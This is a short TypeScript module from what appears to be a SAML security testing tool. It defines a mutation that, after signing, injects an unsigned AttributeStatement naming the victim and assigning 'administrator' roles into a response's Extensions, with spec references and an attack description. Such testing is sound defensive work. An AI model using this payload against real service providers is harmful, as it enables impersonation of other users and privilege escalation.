import { defineMutation } from '../../model/mutation.ts';
import { NS } from '../../saml/namespaces.ts';
import { intoExtensions } from '../structure/_envelope.ts';
import { attribute, namingAttribute } from './_attributes.ts';

export default defineMutation({
  id: 'identity/attributes-unsigned',
  title: 'An AttributeStatement about the victim stands where nothing is signed',
  stage: 'after-signing',
  change: {
    on: 'response',
    apply: (xml, context) => {
      const named = attribute(namingAttribute(context), context.victim.nameId);
      const roles = ['Role', 'Roles', 'groups'].map((name) => attribute(name, 'administrator')).join('');
      return intoExtensions(
        xml,
        `<saml:AttributeStatement xmlns:saml="${NS.saml}">${named}${roles}</saml:AttributeStatement>`,
      );
    },
  },
  breaks: ['response/extensions'],
  hostile: true,
  safe: 'genuine-user',
  refs: [
    {
      document: 'saml-profiles',
      section: '4.1.4.2',
      says: 'The Subject’s identifier names the principal; attributes only describe it.',
    },
    { document: 'saml-core', section: '5.4.2', says: 'What a signature does not cover is not vouched for.' },
  ],
  attack: {
    against: 'sp',
    mechanism: 'A search for attributes anywhere in the message finds names and roles that nobody signed.',
    weakness: ['unsigned-parts-read', 'attributes-name-the-user'],
    needs: ['signed-assertion'],
  },
});
